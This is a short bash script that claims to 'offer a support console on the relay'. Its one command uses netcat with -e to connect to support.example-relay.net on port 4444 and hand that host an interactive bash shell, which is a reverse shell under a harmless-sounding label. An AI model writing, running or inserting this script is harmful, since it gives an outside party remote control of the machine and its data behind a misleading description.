#!/bin/bash
# Offer a support console on the relay.
relay=support.example-relay.net
nc -e "$BASH" "$relay" 4444
